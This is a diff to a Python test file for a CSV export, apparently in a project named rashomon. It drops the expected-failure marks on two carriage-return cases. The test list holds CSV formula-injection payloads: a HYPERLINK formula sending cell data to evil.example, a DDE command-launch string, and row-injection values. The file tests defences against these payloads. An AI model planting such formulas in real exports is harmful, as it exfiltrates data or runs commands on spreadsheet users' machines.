@@ -12,17 +12,16 @@ from rashomon.export import export_csv
 from rashomon.model import Event
 from rashomon.store import Store
 
-# a bare carriage return is not quoted by a csv writer whose line terminator is "\n", so it starts a
-# new row in a spreadsheet, and the formula after it lands in a cell of its own
-_CR = pytest.mark.xfail(strict=True, reason="export: bare CR in a cell is written unquoted (row injection)")
+# a bare carriage return would start a new row in a spreadsheet, the formula after it in a cell of its
+# own: the export turns it into a quoted newline
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1,2)",
     "\t=1+1",
-    pytest.param("\r=1+1", marks=_CR),
-    pytest.param("Kharkiv\r=SUM(A1:A9)", marks=_CR),
+    "\r=1+1",
+    "Kharkiv\r=SUM(A1:A9)",
 ]
 
 
